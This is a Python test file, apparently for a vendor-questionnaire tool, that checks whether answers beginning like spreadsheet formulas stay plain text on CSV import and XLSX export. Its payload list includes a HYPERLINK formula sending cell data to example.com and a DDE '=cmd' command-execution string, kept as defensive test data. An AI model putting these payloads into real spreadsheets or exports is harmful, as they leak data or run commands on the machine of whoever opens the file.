"""Vendor text that begins like a formula stays text: on its way in by CSV, and on its way out again.

A formula of our own making would run on the machine of whoever opens our file.
"""

import csv

import openpyxl

from judging import vendor_answers

EVIL = [
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "+1+41",
    "-2+44",
    "@SUM(1,41)",
    "=1+41",
    "\t=1+41",
    "=cmd|' /C calc'!A0",
    "{=1+41}",
]
# Where texts may stand: questions, parts and columns of tables.
FIELDS = ["COM-01/legal_entity", "COM-01/product", "COM-01/plan", "COM-03/auditor", "DPA-04/diagram"]
WHOLE = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
RESULTS = {"42", "-42", "#NAME?", "#VALUE!", "#REF!", "click"}


def answers_csv(path, evil):
    """A CSV with the texts in answers, notes and proof, and options beside them so that every question is answered."""
    with open(path, "w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file, quoting=csv.QUOTE_ALL)
        rows.writerow(["Question", "Answer", "Note", "Evidence"])
        for at, key in enumerate(FIELDS):
            rows.writerow([key, evil[at % len(evil)], "", ""])
        rows.writerow(["COM-02=soc2_type2", "yes", "", ""])
        rows.writerow(["COM-06", "some_covered", "", ""])
        rows.writerow(["COM-06/customer_controls", "\n".join(evil), "", ""])
        rows.writerow(["DPA-04=prompts", "yes", "", ""])
        for at, id in enumerate(("TRN-01", "TRN-04", "ENC-05")):
            option = {"TRN-01": "never", "TRN-04": "never", "ENC-05": "dedicated"}[id]
            rows.writerow([id, option, evil[at], evil[at + 1]])


def judge(bench):
    judge = bench.judge
    for turn in range(2):
        evil = EVIL[turn * 4 :] + EVIL[: turn * 4]
        file = bench.scratch / f"evil-{turn}.csv"
        answers_csv(file, evil)
        program = bench.program()
        run, said, kept = bench.take(file, program=program)
        judge.equal("CSV: everything is taken", (run.returncode, said.get("not_taken")), (0, []), run.stderr)
        texts = [(key.split("/"), evil[at % len(evil)].strip()) for at, key in enumerate(FIELDS)]
        for (id, part), text in texts:
            judge.equal("CSV: a text that begins like a formula is a text", kept[id]["value"].get(part), text)
        lines = kept["COM-06"]["value"].get("customer_controls")
        judge.equal("CSV: lines that begin like formulas are texts", lines, [line.strip() for line in evil])
        judge.equal("CSV: a note is a text", kept["TRN-01"].get("note"), evil[0].strip())
        judge.equal("CSV: an offer of proof is a text", kept["TRN-01"].get("proof_offered"), evil[1].strip())
        out_again(bench, program, kept, f"known-{turn}")


def all_texts(value):
    if isinstance(value, dict):
        return [text for item in value.values() for text in all_texts(item)]
    if isinstance(value, list):
        return [text for item in value for text in all_texts(item)]
    return [value] if isinstance(value, str) and any(evil.strip() == value for evil in EVIL) else []


def out_again(bench, program, kept, name):
    """The form with what is known, opened by openpyxl and calculated by LibreOffice."""
    judge = bench.judge
    program.edit("vendors/acme.yaml", lambda file: file["vendor"].update(legal_entity=EVIL[0], product=EVIL[1]))
    program.edit("agentvet.yaml", lambda file: file["org"].update(name=EVIL[4]))
    book = bench.scratch / f"{name}.xlsx"
    program.form("acme", "xlsx", book)
    workbook = openpyxl.load_workbook(book)
    formulas = [c.value for s in workbook for row in s.iter_rows() for c in row if c.data_type == "f"]
    ours = ("=IF", "=COUNT", "=SUM(", "=$", "=HYPERLINK(\"#")
    strange = [formula for formula in formulas if not str(formula).startswith(ours) or "example.com" in str(formula)]
    judge.equal("known: every formula of the workbook is our own", strange, [])
    folder = bench.scratch / f"{name}-csv"
    bench.soffice.convert(WHOLE, folder, book)
    cells = [cell for file in sorted(folder.glob("*.csv")) for row in csv.reader(open(file, encoding="utf-8", newline="")) for cell in row]
    judge.true("known: LibreOffice shows the sheets", len(cells) > 1000, f"{len(cells)} cells")
    for text in {EVIL[0], EVIL[1], EVIL[4], *all_texts({id: answer.get("value") for id, answer in kept.items()})}:
        judge.true("known: LibreOffice shows the text itself", any(text in cell for cell in cells), text)
    judge.equal("known: LibreOffice calculates none of it", sorted(RESULTS & {cell.strip() for cell in cells}), [])
    # What was told comes back unchanged.
    resaved = bench.soffice.resaved(book, bench.scratch / f"{name}-resaved")
    for file in (book, resaved):
        run, said, _ = bench.take(file, program=program)
        kinds = {change["change"] for change in said.get("changes", [])}
        judge.equal("known: what is known comes back the same", (run.returncode, kinds, said.get("not_taken")), (0, {"same"}, []), run.stdout[:900] + run.stderr)
    judge.equal("known: and the vendor file says the same", vendor_answers(program.folder / "vendors/acme.yaml"), kept)

